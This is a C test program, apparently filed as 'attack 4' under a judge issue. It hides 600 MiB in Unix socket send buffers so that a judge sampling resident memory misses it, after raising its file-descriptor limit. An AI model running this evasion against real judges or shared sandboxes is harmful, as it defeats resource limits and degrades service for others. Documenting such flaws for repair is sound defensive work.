// Issue #37, attack 4: memory outside the account. Parks 600 MiB in the send
// buffers of Unix socket pairs (kernel memory: no process's resident memory,
// so a judge that samples resident memory does not see it), first raising
// its open-file limit to the hard limit. Prints the right answer (0) only if
// it parked all of it, else 1; one line on stderr says how much it parked.
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#define TARGET (600L << 20)

int main(void) {
    struct rlimit r;
    if (getrlimit(RLIMIT_NOFILE, &r) == 0) {
        r.rlim_cur = r.rlim_max;
        setrlimit(RLIMIT_NOFILE, &r);
    }
    static char chunk[1 << 16];
    memset(chunk, 'x', sizeof chunk);
    long total = 0;
    int pairs = 0;
    const char *why = "";
    char err[256] = "";
    while (total < TARGET) {
        int sv[2];
        if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv) < 0) {
            snprintf(err, sizeof err, "socketpair: %s", strerror(errno));
            why = err;
            break;
        }
        pairs++;
        for (int e = 0; e < 2 && total < TARGET; e++) {
            int size = 64 << 20; // the kernel caps it at net.core.wmem_max
            setsockopt(sv[e], SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
            fcntl(sv[e], F_SETFL, O_NONBLOCK);
            for (;;) {
                ssize_t w = write(sv[e], chunk, sizeof chunk);
                if (w <= 0)
                    break;
                total += w;
            }
        }
    }
    fprintf(stderr, "parked %ld MiB in %d socket pairs%s%s\n", total >> 20, pairs,
            *why ? "; " : "", why);
    puts(total >= TARGET ? "0" : "1");
    return 0;
}
